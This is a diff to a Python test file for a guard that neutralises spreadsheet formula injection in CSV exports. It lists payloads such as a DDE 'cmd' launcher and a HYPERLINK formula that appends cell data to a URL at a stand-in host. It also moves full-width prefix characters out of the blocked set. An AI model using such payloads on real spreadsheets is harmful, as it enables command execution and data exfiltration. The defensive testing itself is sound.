@@ -35,7 +35,7 @@ def test_one_place_writes_every_table_for_people() -> None:
 @pytest.mark.parametrize(
     "cell",
     [
-        "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋A1", "－A1", "＠A1", " =1+1", "　=1+1",
+        "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1+1", "　=1+1",
         "\ufeff=1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://192.0.2.1/"&A1)', "=IMPORTXML(A1)",
         "-2+3+cmd|' /C calc'!A0",
     ],
@@ -45,7 +45,7 @@ def test_a_cell_that_would_run_becomes_text(cell: str) -> None:
     assert f"'{cell.split(chr(34))[0][:3]}" in table_csv(["見出し"], [[cell]]).decode("utf-8-sig")
 
 
-@pytest.mark.parametrize("cell", ["", "旭川", "-5", "+5", "-1,234", "1=1", "a@b", "R8.11.20", "△1,234", "ー"])
+@pytest.mark.parametrize("cell", ["", "旭川", "-5", "+5", "-1,234", "1=1", "a@b", "R8.11.20", "△1,234", "ー", "＝A1"])
 def test_a_cell_that_only_tells_stays_as_it_is(cell: str) -> None:
     assert guarded(cell) == cell
 
